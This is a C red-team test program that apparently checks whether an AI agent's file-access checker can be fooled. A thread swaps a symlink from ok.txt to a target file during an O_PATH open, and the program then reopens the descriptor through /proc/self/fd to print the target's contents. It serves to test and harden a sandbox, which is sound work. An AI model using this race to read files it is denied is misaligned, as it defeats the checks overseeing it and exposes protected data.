/* Red team 10: an O_PATH fd is no access to what it names.
 *
 * An O_PATH open is decided on the name, then completed by the kernel, which
 * looks the name up again: a second thread repoints `link` from ok.txt to
 * TARGET in between (DELAY percent of an open's time).  The agent then asks
 * to read /proc/self/fd/N.  That reopen must be judged as a read of what the
 * fd names, never waved through as an fd the agent already holds.
 * Usage: opath_race TARGET DELAY; prints READ: <content> when it got through.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <pthread.h>
#include <time.h>
#include <errno.h>
static const char *target;
static volatile int go, done; static long delay_ns;
static long now(){struct timespec t;clock_gettime(CLOCK_MONOTONIC,&t);return t.tv_sec*1000000000L+t.tv_nsec;}
static void *swapper(void *a) {
    for (;;) {
        while (!go) ; go = 0;
        long t0 = now(); while (now() - t0 < delay_ns) ;
        rename("l2.tmp", "link");               /* link -> secret */
        while (!done) ; done = 0;
        symlink(target, "l2.tmp");
        symlink("ok.txt", "l1.tmp"); rename("l1.tmp", "link");  /* back to ok */
    }
}
int main(int argc, char **argv) {
    target = argv[1];
    unlink("link"); unlink("l1.tmp"); unlink("l2.tmp");
    symlink("ok.txt", "link"); symlink(target, "l2.tmp");
    /* measure */
    long t0 = now(); for (int i = 0; i < 50; i++) close(open("link", O_PATH)); long per = (now() - t0) / 50;
    fprintf(stderr, "O_PATH open takes %ld us\n", per / 1000);
    delay_ns = per * atoi(argv[2]) / 100;
    pthread_t t; pthread_create(&t, 0, swapper, 0);
    for (int i = 0; i < 3000; i++) {
        go = 1;
        int fd = open("link", O_PATH);
        done = 1;
        while (done) ;
        if (fd < 0) continue;
        char p[64], buf[256], real[512]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, real, sizeof real - 1); if (n < 0) n = 0; real[n] = 0;
        if (strstr(real, "ok.txt")) { close(fd); continue; }
        fprintf(stderr, "iter %d: O_PATH fd %d -> %s\n", i, fd, real);
        int r = open(p, O_RDONLY);
        if (r < 0) { fprintf(stderr, "reopen failed: %s\n", strerror(errno)); return 2; }
        n = read(r, buf, sizeof buf - 1); buf[n > 0 ? n : 0] = 0;
        fprintf(stderr, "READ: %s", buf); return 0;
    }
    fprintf(stderr, "race not won\n"); return 1;
}
